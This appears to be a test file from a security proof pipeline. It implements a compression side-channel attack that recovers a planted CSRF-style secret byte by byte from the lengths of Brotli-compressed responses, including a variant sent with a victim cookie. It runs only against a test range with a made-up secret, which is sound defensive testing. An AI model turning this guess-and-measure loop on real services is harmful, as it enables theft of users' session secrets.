import type { Proof, ProofRange, ProofRequest } from '../../pipeline/proof.ts'

/** Lengths of compressed answers that tell a secret byte by byte. */
export const proof: Proof = {
  control: 'compression',
  attacks: [
    {
      id: 'TRN-01',
      name: 'learns a secret from the lengths of answers that repeat the request',
      needs: { compress: true },
      run: (range) => readsSecret(range, (guess) => ({ target: `/names/${guess}` })),
    },
    {
      id: 'TRN-01',
      name: 'learns a secret from the lengths of answers to a browser with a cookie',
      needs: { compress: true },
      run: (range) =>
        readsSecret(range, () => ({
          target: '/page-action',
          credential: 'none',
          headers: ['Cookie', 'prove_session=victim'],
        })),
    },
  ],
}

const ALPHABET = 'abcdefgh'
const SECRET = 'gacf'
const BEFORE = 'csrf='
/** None of the alphabet, so that it ends every match. */
const PADDING = '~-_!'
const FILLER = 'The quick brown fox jumps over the lazy dog, 0123456789. '.repeat(24)

/** How the answer with a guess beside the secret is asked for. */
type Ask = (guess: string) => ProofRequest

/** Guesses letter after letter; the best is the one whose place in front of the padding saves most. */
async function readsSecret(range: ProofRange, ask: Ask): Promise<boolean> {
  let known = ''
  while (known.length < SECRET.length) {
    const gains: number[] = []
    for (const letter of ALPHABET) {
      const near = await lengthWith(range, ask, `${BEFORE}${known}${letter}${PADDING}`)
      const far = await lengthWith(range, ask, `${BEFORE}${known}${PADDING}${letter}`)
      gains.push(far - near)
    }
    known += ALPHABET[gains.indexOf(Math.max(...gains))] ?? ''
    if (!SECRET.startsWith(known)) return false
  }
  return true
}

/** What somebody on the way sees of an encrypted answer: how long it is. */
async function lengthWith(range: ProofRange, ask: Ask, guess: string): Promise<number> {
  const owner = { name: `${FILLER}${BEFORE}${SECRET}.` }
  range.sink.answer({ body: JSON.stringify({ id: 1, name: guess, owner }) })
  const request = ask(guess)
  const headers = [...(request.headers ?? []), 'Accept-Encoding', 'br']
  const answer = await range.send({ ...request, headers })
  if (answer.status !== 200) throw new Error(`answered with ${answer.status}`)
  return Number(answer.header('content-length'))
}
